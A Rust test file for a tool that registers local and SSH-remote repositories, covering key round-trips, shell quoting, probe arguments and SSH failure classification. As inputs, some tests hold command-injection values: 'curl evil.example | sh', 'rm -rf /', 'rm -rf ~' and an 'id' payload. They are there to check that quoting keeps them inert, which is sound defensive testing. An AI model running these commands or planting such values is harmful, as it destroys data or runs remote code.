use std::path::{Path, PathBuf};

use repo_mode::entry::{
    canonicalize_repo_path, classify_entry_kind, display_name_for_path,
    display_name_for_registry_path, format_remote_key, is_dead_path, is_remote_key, is_remote_path,
    parse_remote_key, shell_quote, CanonicalizeError, RemoteTarget, RepoEntry, RepoEntryKind,
    DEFAULT_SSH_PORT,
};
use repo_mode::probe::{
    classify_probe_failure, parse_probe_output, probe_path_env, read_probe_run, remote_cd_command,
    remote_probe_args, remote_probe_command, remote_probe_script, remote_ssh_command,
    remote_ssh_command_landing_in_path, ProbeRun, RemoteProbeFailure, RemoteProbeOutcome, RemoteProbeState, REMOTE_PROBE_SHELL_COMMAND,
};

fn resolved(path: &Path) -> Option<String> {
    dunce::canonicalize(path)
        .ok()
        .map(|found| found.to_string_lossy().into_owned())
}

fn has_git(path: &Path) -> bool {
    path.join(".git").exists()
}

fn text(path: &Path) -> String {
    path.to_string_lossy().into_owned()
}

fn named_dir(name: &str, parent: &Path) -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix(name)
        .rand_bytes(0)
        .tempdir_in(parent)
        .unwrap()
}

#[test]
fn canonicalize_dedups_trailing_slash_variants() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().to_path_buf();
    let with_slash = PathBuf::from(format!("{}/", base.display()));

    let a = canonicalize_repo_path(&text(&base), resolved(&base)).unwrap();
    let b = canonicalize_repo_path(&text(&with_slash), resolved(&with_slash)).unwrap();
    assert_eq!(a, b);
}

#[test]
fn classify_repo_vs_folder() {
    let dir = tempfile::tempdir().unwrap();
    let folder = named_dir("plain", dir.path());
    assert_eq!(
        classify_entry_kind(&text(folder.path()), has_git(folder.path())),
        Some(RepoEntryKind::Folder)
    );

    let repo = named_dir("gitrepo", dir.path());
    let _git = named_dir(".git", repo.path());
    assert_eq!(
        classify_entry_kind(&text(repo.path()), has_git(repo.path())),
        Some(RepoEntryKind::Repo)
    );
}

#[test]
fn dead_path_check() {
    let dir = tempfile::tempdir().unwrap();
    let existing = named_dir("exists", dir.path());
    assert!(!is_dead_path(&text(existing.path()), existing.path().exists()));

    let missing = dir.path().join("gone");
    assert!(is_dead_path(&text(&missing), missing.exists()));
}

#[test]
fn repo_entry_from_path_sets_display_name() {
    let dir = tempfile::tempdir().unwrap();
    let path = named_dir("my-project", dir.path());
    let entry = RepoEntry::from_path(
        &text(path.path()),
        resolved(path.path()),
        has_git(path.path()),
    )
    .unwrap();
    assert_eq!(entry.display_name, "my-project");
    assert_eq!(entry.kind, RepoEntryKind::Folder);
}

fn target(server: &str, port: u16, user: &str, identity: &str, remote_path: &str) -> RemoteTarget {
    RemoteTarget {
        server: server.to_string(),
        port,
        user: user.to_string(),
        identity: identity.to_string(),
        remote_path: remote_path.to_string(),
    }
}

/// The machine is part of the identity, so the same path on two hosts is two
/// entries.
#[test]
fn remote_keys_differ_by_host() {
    let a = format_remote_key("10.0.0.1", 22, "vinh", "/k", "/srv/app");
    let b = format_remote_key("10.0.0.2", 22, "vinh", "/k", "/srv/app");
    assert_ne!(a, b);
}

/// A remote key can never collide with a local absolute path.
#[test]
fn remote_key_never_collides_with_local_path() {
    let remote = format_remote_key("10.0.0.1", 22, "vinh", "/k", "/srv/app");
    assert_ne!(remote, "/srv/app");
    assert!(is_remote_key(&remote));
    assert!(!is_remote_key("/srv/app"));
    assert!(!is_remote_key(r"C:\Users\v\app"));
}

#[test]
fn remote_key_round_trips_plain_components() {
    let want = target(
        "example.com",
        22,
        "vinh",
        "/Users/v/.ssh/id_ed25519",
        "/srv/app",
    );
    let key = want.key();
    assert_eq!(
        key,
        "ssh://vinh@example.com:22/srv/app?i=/Users/v/.ssh/id_ed25519"
    );
    assert_eq!(parse_remote_key(&key), Some(want));
}

/// Spaces in the identity or path must survive the key, and must not arrive at
/// the parser as raw bytes.
#[test]
fn remote_key_round_trips_spaces() {
    let want = target("h", 22, "vinh", "/Users/v/my keys/id", "/srv/my app");
    let key = want.key();
    assert!(!key.contains(' '), "space must be encoded in {key}");
    assert_eq!(parse_remote_key(&key), Some(want));
}

/// Delimiters are legal in a Unix path. An un-encoded one would silently yield a
/// wrong path and a wrong identity.
#[test]
fn remote_key_round_trips_reserved_delimiters() {
    let want = target("h", 22, "us?er", "/keys/a#b%c", "/srv/a?b#c%d@e:f");
    let key = want.key();
    assert_eq!(
        key.matches('?').count(),
        1,
        "only the query delimiter may be a raw '?' in {key}"
    );
    assert_eq!(
        key.matches('@').count(),
        1,
        "only the userinfo delimiter may be a raw '@' in {key}"
    );
    assert!(!key.contains('#'), "'#' must be encoded in {key}");
    assert_eq!(parse_remote_key(&key), Some(want));
}

/// An IPv6 host is bracketed so its colons cannot be mistaken for the `:port`
/// delimiter.
#[test]
fn remote_key_brackets_ipv6_host() {
    let want = target("::1", 2222, "root", "/k", "/srv");
    let key = want.key();
    assert_eq!(key, "ssh://root@[::1]:2222/srv?i=/k");
    assert_eq!(parse_remote_key(&key), Some(want));
}

#[test]
fn remote_key_preserves_port() {
    let default_port = parse_remote_key(&format_remote_key("h", 22, "u", "/k", "/srv")).unwrap();
    assert_eq!(default_port.port, 22);
    let custom = parse_remote_key(&format_remote_key("h", 2222, "u", "/k", "/srv")).unwrap();
    assert_eq!(custom.port, 2222);
}

#[test]
fn remote_key_round_trips_empty_identity() {
    let want = target("h", 22, "u", "", "/srv/app");
    let key = want.key();
    assert!(!key.contains('?'), "no query segment expected in {key}");
    assert_eq!(parse_remote_key(&key), Some(want));
}

#[test]
fn parse_remote_key_rejects_malformed_keys() {
    assert_eq!(parse_remote_key("/srv/app"), None);
    assert_eq!(
        parse_remote_key("ssh://example.com:22/srv"),
        None,
        "no user"
    );
    assert_eq!(parse_remote_key("ssh://u@h/srv"), None, "no port");
    assert_eq!(parse_remote_key("ssh://u@h:notaport/srv"), None);
    assert_eq!(parse_remote_key("ssh://u@h:22/sr%ZZv"), None, "bad escape");
}

/// The row label is the path leaf, and the host when there is no leaf.
#[test]
fn remote_display_name_uses_path_leaf_then_host() {
    let with_leaf = parse_remote_key("ssh://u@h:22/srv/app?i=/k").unwrap();
    assert_eq!(with_leaf.display_name(), "app");
    let no_leaf = parse_remote_key("ssh://u@h:22/?i=/k").unwrap();
    assert_eq!(no_leaf.display_name(), "h");
    assert_eq!(no_leaf.user_host(), "u@h");
}

/// An unquoted space in an identity or remote path would split into a second
/// positional argument.
#[test]
fn shell_quote_wraps_and_escapes() {
    assert_eq!(shell_quote("/srv/app"), "'/srv/app'");
    assert_eq!(shell_quote("/srv/my app"), "'/srv/my app'");
    assert_eq!(shell_quote("a$b`c\\d"), "'a$b`c\\d'");
    assert_eq!(shell_quote("it's"), r#"'it'\''s'"#);
    assert_eq!(shell_quote(""), "''");
}

/// One label entry point for both kinds of registry key.
#[test]
fn registry_label_handles_local_and_remote_keys() {
    let dir = tempfile::tempdir().unwrap();
    let local = dir.path().join("my-project");
    assert_eq!(display_name_for_registry_path(&text(&local)), "my-project");

    let key = format_remote_key("h", 22, "u", "/k", "/srv/app");
    assert_eq!(display_name_for_registry_path(&key), "app");
}

/// An entry with no probe yet is pending, and only a resolved probe carries a
/// kind.
#[test]
fn remote_probe_state_reports_kind_only_when_resolved() {
    assert_eq!(RemoteProbeState::default(), RemoteProbeState::Pending);
    assert_eq!(RemoteProbeState::Pending.kind(), None);
    assert_eq!(
        RemoteProbeState::Failed {
            reason: RemoteProbeFailure::Unreachable
        }
        .kind(),
        None
    );
    assert_eq!(
        RemoteProbeState::Resolved {
            kind: RepoEntryKind::Repo,
            branch: Some("main".to_string()),
        }
        .kind(),
        Some(RepoEntryKind::Repo)
    );
}

/// Each failure class names what the user must actually do.
#[test]
fn remote_probe_failures_have_distinct_messages() {
    let failures = [
        RemoteProbeFailure::Unreachable,
        RemoteProbeFailure::NeedsFirstHandConnect,
        RemoteProbeFailure::PathNotFound,
        RemoteProbeFailure::SshUnavailable,
    ];
    for failure in failures {
        assert!(!failure.message().is_empty());
        assert!(!failure.short_label().is_empty());
    }
    for (index, failure) in failures.iter().enumerate() {
        for other in &failures[index + 1..] {
            assert_ne!(
                failure.message(),
                other.message(),
                "{failure:?} and {other:?} tell the user the same thing"
            );
            assert_ne!(failure.short_label(), other.short_label());
        }
    }
}

/// One round trip answers repo-or-folder, the branch, and the expanded path.
#[test]
fn probe_output_parses_repo_folder_and_missing() {
    assert_eq!(
        parse_probe_output("path /home/v/app\nkind repo\nbranch main\n"),
        Some(RemoteProbeOutcome::Found {
            remote_path: "/home/v/app".to_string(),
            kind: RepoEntryKind::Repo,
            branch: Some("main".to_string()),
        })
    );
    // A repository with no readable branch (detached, or no git binary) is
    // still a repository.
    assert_eq!(
        parse_probe_output("path /srv/app\nkind repo\n"),
        Some(RemoteProbeOutcome::Found {
            remote_path: "/srv/app".to_string(),
            kind: RepoEntryKind::Repo,
            branch: None,
        })
    );
    assert_eq!(
        parse_probe_output("path /srv/data\nkind folder\n"),
        Some(RemoteProbeOutcome::Found {
            remote_path: "/srv/data".to_string(),
            kind: RepoEntryKind::Folder,
            branch: None,
        })
    );
    assert_eq!(
        parse_probe_output("missing\n"),
        Some(RemoteProbeOutcome::Missing)
    );
    // A path with spaces survives the line protocol.
    assert_eq!(
        parse_probe_output("path /srv/my app\nkind folder\n"),
        Some(RemoteProbeOutcome::Found {
            remote_path: "/srv/my app".to_string(),
            kind: RepoEntryKind::Folder,
            branch: None,
        })
    );
}

/// Garbled or empty output is not silently read as "folder".
#[test]
fn probe_output_rejects_unusable_stdout() {
    assert_eq!(parse_probe_output(""), None);
    assert_eq!(parse_probe_output("bash: line 1: syntax error\n"), None);
    assert_eq!(parse_probe_output("path /srv/app\n"), None, "no kind line");
}

/// An unknown host key or a locked key is not reported as "unreachable".
#[test]
fn probe_failures_are_classified_by_what_the_user_must_do() {
    for stderr in [
        "Host key verification failed.",
        "vinh@10.0.0.7: Permission denied (publickey).",
        "Enter passphrase for key '/Users/v/.ssh/id_ed25519':",
        "The authenticity of host '10.0.0.7' can't be established.",
    ] {
        assert_eq!(
            classify_probe_failure(stderr),
            RemoteProbeFailure::NeedsFirstHandConnect,
            "stderr: {stderr}"
        );
    }

    for stderr in [
        "ssh: connect to host 10.0.0.7 port 22: Connection refused",
        "ssh: connect to host 10.0.0.7 port 22: Operation timed out",
        "ssh: Could not resolve hostname nope: nodename nor servname provided",
        "",
    ] {
        assert_eq!(
            classify_probe_failure(stderr),
            RemoteProbeFailure::Unreachable,
            "stderr: {stderr}"
        );
    }
}

/// A *changed* host key is not a first connection, though its stderr also
/// contains "host key verification failed".
#[test]
fn a_changed_host_key_is_its_own_reason_not_a_first_connection() {
    let stderr = "@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n\
                  @    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n\
                  @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n\
                  IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\n\
                  Host key verification failed.";

    let reason = classify_probe_failure(stderr);
    assert_eq!(reason, RemoteProbeFailure::HostKeyChanged);
    assert_ne!(
        reason,
        RemoteProbeFailure::NeedsFirstHandConnect,
        "the generic 'host key verification failed' marker must not win"
    );

    // The advice must read as a warning, not as a setup step.
    let message = reason.message().to_ascii_lowercase();
    assert!(
        !message.contains("connect once by hand"),
        "must not tell the user to click through a MITM warning: {message:?}"
    );
    assert!(
        message.contains("verify"),
        "should tell the user to verify the new key: {message:?}"
    );
    assert_ne!(
        reason.short_label(),
        RemoteProbeFailure::NeedsFirstHandConnect.short_label()
    );
}

/// The probe is argv, never a shell string; `--` fences the destination; and the
/// script travels over stdin rather than as a quoted remote command.
#[test]
fn probe_args_fence_the_destination_and_append_no_script() {
    let target = RemoteTarget {
        server: "10.0.0.7".to_string(),
        port: 2222,
        user: "vinh".to_string(),
        identity: "/Users/v/my keys/id".to_string(),
        remote_path: "/srv/app".to_string(),
    };
    let args = remote_probe_args(&target, 8);

    let fence = args.iter().position(|a| a == "--").expect("-- fence");
    assert_eq!(args[fence + 1], "vinh@10.0.0.7");
    assert!(args.contains(&"BatchMode=yes".to_string()));
    assert!(args.contains(&"ConnectTimeout=8".to_string()));
    assert_eq!(args[fence + 2], REMOTE_PROBE_SHELL_COMMAND);
    assert_eq!(args.len(), fence + 3, "nothing follows the shell command");

    // The identity is passed as its own argv entry: no quoting, no splitting.
    let identity = args.iter().position(|a| a == "-i").expect("-i");
    assert_eq!(args[identity + 1], "/Users/v/my keys/id");
    assert!(args.contains(&"-p".to_string()));
    assert!(args.contains(&"2222".to_string()));

    // Never weaken host-key checking to make an add-time probe pass.
    assert!(
        !args.iter().any(|a| a.contains("StrictHostKeyChecking")),
        "host-key policy must stay at its secure default: {args:?}"
    );

    // An identity-less target simply omits `-i`.
    let no_identity = RemoteTarget {
        identity: String::new(),
        ..target
    };
    assert!(!remote_probe_args(&no_identity, 8).contains(&"-i".to_string()));
}

/// The remote path reaches a shell inside the probe script, so it is
/// shell-quoted rather than interpolated raw.
#[test]
fn probe_script_quotes_the_remote_path() {
    let path = "/srv/my app; rm -rf /";
    let script = remote_probe_script(path);
    // The path only ever appears as the single-quoted assignment, so its
    // metacharacters are data to the remote shell, never syntax.
    assert_eq!(
        script.lines().next(),
        Some(format!("p={}", shell_quote(path)).as_str())
    );
    assert_eq!(script.matches(path).count(), 1);

    // A path containing a single quote closes and reopens correctly.
    let quoted = remote_probe_script("/srv/it's");
    assert_eq!(quoted.lines().next(), Some(r#"p='/srv/it'\''s'"#));
}

/// The local-filesystem rules must never run for a remote key.
#[test]
fn local_fs_rules_are_gated_to_local_keys() {
    let key = format_remote_key("h", 22, "u", "/k", "/srv/app");
    assert!(canonicalize_repo_path(&key, Some("/srv/app".to_string())).is_err());
    assert_eq!(classify_entry_kind(&key, true), None);
    assert_eq!(classify_entry_kind(&key, false), None);
    // Never "dead": liveness for a remote entry comes from the probe.
    assert!(!is_dead_path(&key, false));
}

/// The tab's `ssh` line has exactly one positional argument, and every
/// user-entered value is quoted.
#[test]
fn ssh_command_keeps_a_single_positional_destination() {
    let target = RemoteTarget {
        server: "10.0.0.7".to_string(),
        port: 2222,
        user: "vinh".to_string(),
        identity: "/Users/v/my keys/id".to_string(),
        remote_path: "/srv/my app".to_string(),
    };
    let command = remote_ssh_command(&target);
    assert_eq!(
        command,
        "ssh -i '/Users/v/my keys/id' -p 2222 -- 'vinh@10.0.0.7'"
    );

    // The remote path never appears on the ssh line.
    assert!(!command.contains("/srv/my app"));
    assert!(command.ends_with("'vinh@10.0.0.7'"));

    let no_identity = RemoteTarget {
        identity: String::new(),
        port: DEFAULT_SSH_PORT,
        ..target
    };
    assert_eq!(
        remote_ssh_command(&no_identity),
        "ssh -p 22 -- 'vinh@10.0.0.7'"
    );
}

/// The `ssh` line is typed into the local shell, so both halves of `user@host`
/// must be quoted.
#[test]
fn ssh_command_quotes_metacharacters_in_the_destination() {
    let injected = RemoteTarget {
        server: "h; curl evil.example | sh".to_string(),
        port: DEFAULT_SSH_PORT,
        user: "vinh".to_string(),
        identity: String::new(),
        remote_path: "/srv/app".to_string(),
    };
    assert_eq!(
        remote_ssh_command(&injected),
        "ssh -p 22 -- 'vinh@h; curl evil.example | sh'"
    );

    // A quote in the field closes and reopens the quoting rather than escaping
    // it, so the payload stays a single inert word.
    let quoted = RemoteTarget {
        user: "v'; id; '".to_string(),
        server: "host".to_string(),
        ..injected
    };
    assert_eq!(
        remote_ssh_command(&quoted),
        r"ssh -p 22 -- 'v'\''; id; '\''@host'"
    );
}

/// Landing in the entry's path is its own command, and the path stays one
/// argument however it is spelled.
#[test]
fn cd_command_quotes_the_remote_path() {
    assert_eq!(remote_cd_command("/srv/app"), "cd '/srv/app'");
    assert_eq!(remote_cd_command("/srv/my app"), "cd '/srv/my app'");
    assert_eq!(
        remote_cd_command("/srv/app; rm -rf /"),
        "cd '/srv/app; rm -rf /'"
    );
    assert_eq!(remote_cd_command("/srv/it's"), r#"cd '/srv/it'\''s'"#);
    // The entry stores the path the host already resolved, so a tilde is only a
    // fallback.
    assert_eq!(remote_cd_command("~/app"), "cd '~/app'");
}

/// With warpification off the path travels on the command line. The `-t` keeps
/// the session interactive.
#[test]
fn landing_command_carries_the_path_when_nothing_else_will() {
    let target = RemoteTarget {
        server: "10.0.0.7".to_string(),
        port: 2222,
        user: "vinh".to_string(),
        identity: "/Users/v/my keys/id".to_string(),
        remote_path: "/srv/my app".to_string(),
    };

    assert_eq!(
        remote_ssh_command_landing_in_path(&target),
        r#"ssh -i '/Users/v/my keys/id' -p 2222 -t -- 'vinh@10.0.0.7' 'cd '\''/srv/my app'\''; exec "${SHELL:-/bin/sh}" -l'"#
    );

    // The warpified shape is untouched: it still carries no path and no `-t`.
    let warpified = remote_ssh_command(&target);
    assert!(!warpified.contains("/srv/my app"));
    assert!(!warpified.contains(" -t "));
}

/// The remote path crosses two shells, and must be one inert word to each.
#[test]
fn landing_command_quotes_the_path_at_both_hops() {
    let injected = RemoteTarget {
        server: "host".to_string(),
        port: DEFAULT_SSH_PORT,
        user: "vinh".to_string(),
        identity: String::new(),
        remote_path: "/srv/app'; rm -rf ~; '".to_string(),
    };

    assert_eq!(
        remote_ssh_command_landing_in_path(&injected),
        r#"ssh -p 22 -t -- 'vinh@host' 'cd '\''/srv/app'\''\'\'''\''; rm -rf ~; '\''\'\'''\'''\''; exec "${SHELL:-/bin/sh}" -l'"#
    );

    // Read back what each shell would actually see, rather than trusting the
    // literal above to be right by inspection.
    let command = remote_ssh_command_landing_in_path(&injected);
    let remote_command = single_quoted_suffix(&command);
    assert_eq!(
        remote_command,
        r#"cd '/srv/app'\''; rm -rf ~; '\'''; exec "${SHELL:-/bin/sh}" -l"#
    );
    assert_eq!(
        single_quoted_prefix(&remote_command),
        injected.remote_path,
        "the remote shell must see the path as one argument to cd"
    );
}

/// Undo one layer of POSIX single-quoting on the trailing quoted word.
fn single_quoted_suffix(command: &str) -> String {
    let start = command
        .find(" 'cd ")
        .expect("landing command ends in a quoted remote command");
    unquote(&command[start + 1..])
}

/// Undo one layer of POSIX single-quoting on the leading quoted word.
fn single_quoted_prefix(remote_command: &str) -> String {
    unquote(
        remote_command
            .strip_prefix("cd ")
            .expect("remote command starts with cd"),
    )
}

/// POSIX single-quote removal, up to the first unquoted space or `;`.
fn unquote(word: &str) -> String {
    let mut out = String::new();
    let mut in_quotes = false;
    let mut chars = word.chars();
    while let Some(ch) = chars.next() {
        match ch {
            '\'' => in_quotes = !in_quotes,
            '\\' if !in_quotes => out.push(chars.next().expect("trailing backslash")),
            ' ' | ';' if !in_quotes => break,
            _ => out.push(ch),
        }
    }
    out
}

/// Every connection the form can produce is read back from its key: home-relative
/// and relative paths, paths that begin with a digit, and odd hosts and users.
#[test]
fn every_connection_survives_its_key() {
    for server in ["h", "10.0.0.7", "::1", "fe80::1%en0", "a b", "[x]"] {
        for user in ["u", "CORP\\vinh", "svc$", "a@b:c"] {
            for identity in ["", "/k", "~/.ssh/id", "C:\\keys\\id"] {
                for path in [
                    "~",
                    "~/projects/app",
                    "projects",
                    "2024/app",
                    "",
                    "/",
                    "/srv/\u{e9}t\u{e9} \u{1f980}",
                    "+7",
                ] {
                    for port in [1, 22, 65535] {
                        let want = target(server, port, user, identity, path);
                        assert_eq!(parse_remote_key(&want.key()), Some(want));
                    }
                }
            }
        }
    }
}

/// A key that was stored with a home-relative path right behind the port is
/// readable.
#[test]
fn a_home_relative_key_is_readable() {
    let parsed = parse_remote_key("ssh://u@h:22~/projects/app").unwrap();
    assert_eq!(parsed, target("h", 22, "u", "", "~/projects/app"));
    assert_eq!(parsed.display_name(), "app");
}

#[test]
fn a_leading_digit_of_a_path_is_not_read_as_the_port() {
    let want = target("h", 22, "u", "", "2024/app");
    assert_eq!(want.key(), "ssh://u@h:22%32024/app");
    assert_eq!(parse_remote_key(&want.key()), Some(want));
}

#[test]
fn ports_that_do_not_fit_are_rejected() {
    assert_eq!(parse_remote_key("ssh://u@h:65536/srv"), None);
    assert_eq!(parse_remote_key("ssh://u@h:/srv"), None);
    assert_eq!(parse_remote_key("ssh://u@h:22/srv?x=/k"), None);
    assert_eq!(parse_remote_key("ssh://u@[::1/srv"), None);
    assert_eq!(parse_remote_key("ssh://u@h:22/%ff"), None);
}

#[test]
fn remote_paths_are_told_by_their_scheme() {
    assert!(is_remote_path(Some("ssh://u@h:22/srv")));
    assert!(!is_remote_path(Some("/srv")));
    assert!(!is_remote_path(None));
}

#[test]
fn canonicalizing_fails_for_remote_keys_and_missing_paths() {
    assert_eq!(
        canonicalize_repo_path("/gone", None),
        Err(CanonicalizeError::Unresolved)
    );
    assert_eq!(
        canonicalize_repo_path("ssh://u@h:22/srv", None),
        Err(CanonicalizeError::RemoteKey)
    );
    assert_eq!(
        canonicalize_repo_path("/a/../b", Some("/b".to_string())),
        Ok("/b".to_string())
    );
}

#[test]
fn a_path_without_a_leaf_is_its_own_label() {
    assert_eq!(display_name_for_path("/"), "/");
    assert_eq!(display_name_for_path("/srv/app"), "app");
    assert_eq!(display_name_for_path("/srv/app/"), "app");
}

#[test]
fn probe_runs_are_read_by_how_they_ended() {
    assert_eq!(
        read_probe_run(ProbeRun::SpawnFailed),
        Err(RemoteProbeFailure::SshUnavailable)
    );
    assert_eq!(
        read_probe_run(ProbeRun::TimedOut),
        Err(RemoteProbeFailure::Unreachable)
    );
    assert_eq!(
        read_probe_run(ProbeRun::Exited {
            success: false,
            stdout: String::new(),
            stderr: "Permission denied (publickey).".to_string(),
        }),
        Err(RemoteProbeFailure::NeedsFirstHandConnect)
    );
    assert_eq!(
        read_probe_run(ProbeRun::Exited {
            success: true,
            stdout: "missing\n".to_string(),
            stderr: String::new(),
        }),
        Ok(RemoteProbeOutcome::Missing)
    );
    assert_eq!(
        read_probe_run(ProbeRun::Exited {
            success: true,
            stdout: "path /srv\nkind folder\n".to_string(),
            stderr: String::new(),
        }),
        Ok(RemoteProbeOutcome::Found {
            remote_path: "/srv".to_string(),
            kind: RepoEntryKind::Folder,
            branch: None,
        })
    );
}

/// The interactive `PATH` wins, and an empty one is replaced rather than passed
/// through.
#[test]
fn probe_path_env_prefers_the_shell_path_and_replaces_an_empty_one() {
    assert_eq!(
        probe_path_env(
            Some("/opt/homebrew/bin".to_string()),
            Some(String::new()),
            true
        ),
        Some("/opt/homebrew/bin".to_string()),
        "the interactive PATH is what the user's ssh lives on"
    );
    // Nothing to improve on: inherit, so the child sees the process PATH.
    assert_eq!(
        probe_path_env(None, Some("/usr/bin".to_string()), true),
        None
    );
    assert_eq!(probe_path_env(Some(String::new()), None, true), None);

    assert_eq!(
        probe_path_env(None, Some(String::new()), true).as_deref(),
        Some("/usr/bin:/bin:/usr/sbin:/sbin"),
        "an empty PATH resolves nothing, so it must not be inherited"
    );
    assert_eq!(probe_path_env(None, Some(String::new()), false), None);
}

/// A probe runs `ssh` with its script on standard input.
#[test]
fn a_probe_command_keeps_arguments_and_script_apart() {
    let target = target("10.0.0.7", 22, "vinh", "", "/srv/my app");
    let command = remote_probe_command(&target, Some("/opt/bin".to_string()), None, true);
    assert_eq!(command.program, "ssh");
    assert_eq!(command.args, remote_probe_args(&target, 8));
    assert_eq!(command.stdin, remote_probe_script("/srv/my app"));
    assert_eq!(command.path_env, Some("/opt/bin".to_string()));
}
